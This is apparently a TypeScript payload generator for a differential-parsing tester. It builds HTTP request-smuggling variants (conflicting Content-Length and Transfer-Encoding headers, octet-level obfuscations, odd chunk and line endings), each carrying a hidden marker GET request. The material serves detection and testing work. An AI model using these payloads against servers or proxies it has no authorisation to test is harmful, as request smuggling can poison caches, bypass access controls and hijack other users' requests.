/**
 * Requests that two readers may cut differently: every octet in every place of the fields and lines that frame a
 * request, and the obfuscations that are known from advisories. Each carries a second request where only one of the two
 * readings finds it.
 */
import {
  chunkLines,
  chunkShapes,
  lengthFields,
  lineEnds,
  requestLines,
  transferFields,
} from "./obfuscations.ts";

/** `bytes`: one character an octet. */
export type Payload = { readonly name: string; bytes(place: Place): string };

/** What a payload is made for. */
export type Place = {
  readonly host: string;
  /** In the paths of both of its requests. */
  readonly id: string;
};

type Make = (place: Place) => string;
type Template = { name: string; make: Make };

/** Where the second request has its own path: nobody sent it, unless a strict reader finds it in the bytes. */
export const hiddenPath = (id: string): string => `/hidden-${id}-`;

export const hidden: Make = ({ host, id }) =>
  `GET ${hiddenPath(id)} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;

export const head = ({ host, id }: Place, ...lines: readonly string[]): string =>
  [`POST /first-${id}- HTTP/1.1`, `Host: ${host}`, ...lines, "", ""].join("\r\n");

const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`;

/** A length over everything: who goes by chunks finds the hidden request behind the last of them. */
const lengthThenChunks =
  (field: string): Make =>
  (place) => {
    const body = `0\r\n\r\n${hidden(place)}`;
    return head(place, `Content-Length: ${body.length}`, field) + body;
  };

/** A length of the first chunk's line: who goes by it finds the hidden request inside the chunk. */
const chunksThenLength =
  (field: string): Make =>
  (place) => {
    const body = `${chunk(hidden(place))}0\r\n\r\n`;
    return head(place, field, `Content-Length: ${body.indexOf("GET")}`) + body;
  };

/** Who does not go by this length finds the hidden request where it begins. `field`: with N for the number. */
const lengthOnly =
  (field: string): Make =>
  (place) => {
    const body = hidden(place);
    return head(place, field.replaceAll("N", String(body.length))) + body;
  };

/** Who goes by chunks reads both; a hidden request behind them is a pipelined one. */
const chunked =
  (body: (text: string) => string): Make =>
  (place) =>
    head(place, "Transfer-Encoding: chunked") + body(hidden(place));

const octets = Array.from({ length: 256 }, (_, octet) => octet);
const shown = (octet: number): string => `\\x${octet.toString(16).padStart(2, "0")}`;

/** `text` with each octet put into each of the places, which are marked by `@`. */
function withOctets(text: string): { name: string; text: string }[] {
  const places = [...text.matchAll(/@/g)].map(({ index }) => index);
  const plain = text.replaceAll("@", "");
  return places.flatMap((index, before) =>
    octets.map((octet) => {
      const at = index - before;
      const [left, right] = [plain.slice(0, at), plain.slice(at)];
      return {
        name: `${left}${shown(octet)}${right}`,
        text: left + String.fromCharCode(octet) + right,
      };
    }),
  );
}

function* templates(): Generator<Template> {
  for (const { name, text } of withOctets("@Transfer@-Encoding@:@ chu@nked@")) {
    yield { name: `length then ${name}`, make: lengthThenChunks(text) };
    yield { name: `${name} then length`, make: chunksThenLength(text) };
  }
  for (const { name, text } of withOctets("@Content@-Length@:@ @N@")) {
    yield { name, make: lengthOnly(text) };
  }
  for (const { name, text } of withOctets("@S@;@name=@value@")) {
    const make = (inside: string): string =>
      `${text.replace("S", inside.length.toString(16))}\r\n${inside}\r\n0\r\n\r\n`;
    yield { name: `chunk ${name}`, make: chunked(make) };
  }
  for (const { name, text } of withOctets("D@\r@\n@")) {
    const make = (inside: string): string =>
      `${inside.length.toString(16)}\r\n${text.replace("D", inside)}0\r\n\r\n`;
    yield { name: `end of a chunk ${JSON.stringify(name)}`, make: chunked(make) };
  }
  for (const field of transferFields) {
    yield { name: `length then ${JSON.stringify(field)}`, make: lengthThenChunks(field) };
    yield { name: `${JSON.stringify(field)} then length`, make: chunksThenLength(field) };
  }
  for (const field of lengthFields) yield { name: JSON.stringify(field), make: lengthOnly(field) };
  for (const line of chunkLines) {
    const make = (inside: string): string =>
      `${line.replace("S", inside.length.toString(16))}${inside}\r\n0\r\n\r\n`;
    yield { name: `chunk ${JSON.stringify(line)}`, make: chunked(make) };
  }
  for (const shape of chunkShapes)
    yield { name: `body ${JSON.stringify(shape)}`, make: chunked((it) => shape.replace("H", it)) };
  for (const end of lineEnds) {
    yield {
      name: `lines that end in ${JSON.stringify(end)}`,
      make: (place) =>
        lengthThenChunks("Transfer-Encoding: chunked")(place).replaceAll("\r\n", end),
    };
    for (let line = 0; line < 5; line++) {
      yield {
        name: `line ${line} ends in ${JSON.stringify(end)}`,
        make: (place) => withEnd(lengthOnly("Content-Length: N")(place), { line, end }),
      };
    }
  }
  for (const line of requestLines) {
    yield {
      name: `${JSON.stringify(line)} with a length`,
      make: (place) => withLine(lengthOnly("Content-Length: N")(place), { line, place }),
    };
    yield {
      name: `${JSON.stringify(line)} with chunks and a length`,
      make: (place) =>
        withLine(chunksThenLength("Transfer-Encoding: chunked")(place), { line, place }),
    };
  }
}

function withEnd(bytes: string, { line, end }: { line: number; end: string }): string {
  const lines = bytes.split("\r\n");
  return lines.slice(0, line + 1).join("\r\n") + end + lines.slice(line + 1).join("\r\n");
}

function withLine(bytes: string, { line, place }: { line: string; place: Place }): string {
  const path = `/first-${place.id}-`;
  return line.replace("P", path).replace("H", place.host) + bytes.slice(bytes.indexOf("\r\n"));
}

export function payloads(): Payload[] {
  return [...templates()].map(({ name, make }) => ({ name, bytes: make }));
}
